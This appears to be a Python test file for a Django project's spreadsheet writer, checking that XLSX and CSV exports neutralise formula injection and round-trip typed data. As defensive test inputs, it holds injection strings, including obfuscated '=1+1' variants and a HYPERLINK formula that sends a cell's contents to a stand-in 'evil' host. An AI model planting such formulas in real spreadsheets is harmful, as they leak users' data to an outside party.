"""Files out: nothing in them computes, and what was written reads back the same."""

import datetime
import io
import json
import re
import sys
import zipfile
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation

from core.spreadsheets.headers import Column, match_table
from core.spreadsheets.read import CellFault, read_table, read_workbook
from core.spreadsheets.write import (
    OutColumn,
    OutSheet,
    neutral,
    refusal_sheet,
    write_csv,
    write_workbook,
)
from tests.core.spreadsheet_files import case_file

DATA = Path(__file__).parent.parent / "data" / "bad_inputs_text.json"
TEXTS = [c["value"] for c in json.loads(DATA.read_text())["cases"] if "value" in c]
INJECTIONS = [
    c["value"]
    for c in json.loads(DATA.read_text())["cases"]
    if c["id"] in ("name-020", "name-021", "name-023", "name-025", "name-026")
] + ["\t=1+1", " =1+1", "\u200b=1+1", "\u3000＝1+1", "-1+1", "－1", "＋1", "＠SUM(1)", "\x01=1+1"]


def sheet_xml(content, number=1):
    book = zipfile.ZipFile(io.BytesIO(content))
    return book.read(f"xl/worksheets/sheet{number}.xml").decode()


def formula_cells(content):
    return len(re.findall(r"<f[\s>/]", sheet_xml(content)))


def test_no_text_becomes_a_formula_a_link_or_a_number():
    rows = [[text] for text in [*INJECTIONS, *TEXTS, "http://evil/", "007", "1e5"]]
    content = write_workbook([OutSheet("客户", ["姓名"], rows)])
    assert formula_cells(content) == 0
    assert "<hyperlink" not in sheet_xml(content).lower()
    read = [row.cells[0] for row in read_table("a.xlsx", content).rows]
    assert '=HYPERLINK("http://evil/?"&A1,"click")' in read
    assert "007" in read
    assert all(isinstance(cell, str) for cell in read)


def test_the_counter_of_formulas_counts():
    """Control: the same check finds a formula where there is one."""
    assert formula_cells(case_file("file-003")[1]) == 4


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_neutralises_formulas_behind_blanks_and_controls(text):
    assert neutral(text).startswith("'")
    content = write_csv(["姓名"], [[text]]).decode("utf-8-sig")
    assert content.splitlines()[1].lstrip('"').startswith("'")


@pytest.mark.parametrize("text", ["张三", "a=b", "1-2", "", "(=)", "·=1"])
def test_csv_leaves_other_text_alone(text):
    assert neutral(text) == text


def test_csv_leaves_numbers_numbers_and_drops_faults():
    content = write_csv(["=a", "b"], [[-5, Decimal("-1.50")], [None, CellFault("ERROR_VALUE")]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "'=a,b\r\n-5,-1.50\r\n,\r\n"


def test_typed_cells_read_back_as_they_were():
    zone = ZoneInfo("Asia/Shanghai")
    at = datetime.datetime(2026, 5, 18, 11, 40, tzinfo=datetime.UTC)
    columns = [
        "文字",
        "整数",
        OutColumn("金额", "money"),
        "日期",
        "时间",
        OutColumn("占比", "ratio"),
        "是",
    ]
    row = ["𠮷 \n野", 7, Decimal("12.50"), datetime.date(2026, 3, 5), at, Decimal("0.5"), True]
    content = write_workbook([OutSheet("数据", columns, [row])], zone=zone)
    assert read_table("a.xlsx", content).rows[0].cells == [
        "𠮷 \n野",
        7,
        Decimal("12.5"),
        datetime.date(2026, 3, 5),
        datetime.datetime(2026, 5, 18, 19, 40),  # noqa: DTZ001
        Decimal("0.5"),
        True,
    ]


def test_what_excel_has_no_place_for_is_left_out():
    row = [float("nan"), Decimal("Infinity"), "a\x00\x07\ud800b", "长" * 40_000, None]
    content = write_workbook([OutSheet("x", list("abcde"), [row])])
    assert formula_cells(content) == 0
    cells = read_table("a.xlsx", content).rows[0].cells
    assert cells[:3] == [None, None, "ab"]
    assert len(cells[3]) == 32_767


def test_computed_columns_are_locked_and_the_header_stays_in_sight():
    columns = ["姓名", OutColumn("合计", "money", computed=True)]
    xml = sheet_xml(write_workbook([OutSheet("x", columns, [["张三", 1]])]))
    assert "<sheetProtection" in xml
    assert 'state="frozen"' in xml
    assert "<sheetProtection" not in sheet_xml(write_workbook([OutSheet("x", ["a"], [[1]])]))


def test_computed_columns_are_green():
    columns = ["姓名", OutColumn("合计", "money", computed=True)]
    for fitting in (columns, columns[:1]):
        book = write_workbook([OutSheet("x", fitting, [["张三", 1][: len(fitting)]])])
        with zipfile.ZipFile(io.BytesIO(book)) as parts:
            styles = parts.read("xl/styles.xml").decode()
        fills = re.findall(r'fgColor rgb="FF(..)(..)(..)"', styles)
        assert len(fills) == len(fitting) - 1
        for red, green, blue in fills:
            assert int(green, 16) > max(int(red, 16), int(blue, 16)) + 8


def test_sheet_names_are_made_fit():
    names = ["a/b:c", "客户" * 20, "客户" * 20, "", "'x'"]
    content = write_workbook([OutSheet(name, ["h"], [["v"]]) for name in names])
    found = list(read_workbook("a.xlsx", content))
    assert len(found) == 5
    assert max(map(len, found)) <= 31
    assert found[0] == "a b c"


def test_a_title_stands_above_the_header_and_is_skipped():
    sheet = OutSheet("x", ["姓名", "电话"], [["张三", "1"]], title="导出人 王芳 2026-07-01")
    table = read_table("a.xlsx", write_workbook([sheet]))
    assert (table.title_rows_skipped, table.headers) == (1, ["姓名", "电话"])


def test_refused_rows_come_back_with_reasons_and_can_be_sent_in_again():
    table = read_table(*case_file("file-012"))
    content = refusal_sheet(table.headers, table.rows, ["日期不对"] * 3)
    again = read_table("mended.xlsx", content)
    columns = [Column("name", ("客户姓名",), True), Column("delivered_at", ("交车日期",), True)]
    again, match = match_table(again, columns)
    assert match.unknown == ["电话"]
    assert [row.cells[0] for row in again.rows] == ["日期不对"] * 3
    assert [row.cells[1:] for row in again.rows] == [row.cells for row in table.rows]


def test_the_reason_column_speaks_the_reader_s_language():
    for language, header in (("en", "Reason for refusal"), ("zh-hans", "拒绝原因")):
        with translation.override(language):
            assert read_table("a.xlsx", refusal_sheet(["a"], [["b"]], ["c"])).headers[0] == header


def test_formulas_come_back_empty():
    table = read_table(*case_file("file-003"))
    content = refusal_sheet(table.headers, table.rows, ["公式单元格"])
    assert formula_cells(content) == 0
    assert read_table("a.xlsx", content).rows[0].cells == ["公式单元格", None, None, None, None]


def test_twenty_thousand_rows_go_out_and_in():
    rows = [[f"客户{n}", f"138{n:08d}", n, datetime.date(2026, 3, 5)] for n in range(20_000)]
    content = write_workbook([OutSheet("客户", ["客户姓名", "电话", "数量", "日期"], rows)])
    table = read_table("客户.xlsx", content)
    assert [row.cells for row in table.rows] == rows
    assert table.rows[-1].number == 20_001


def test_pandas_is_not_needed_here():
    source = (Path(__file__).parents[2] / "core").rglob("*.py")
    assert not any(
        re.search(r"^\s*(?:import|from) pandas", path.read_text(), re.M) for path in source
    )
    assert "core.spreadsheets.read" in sys.modules
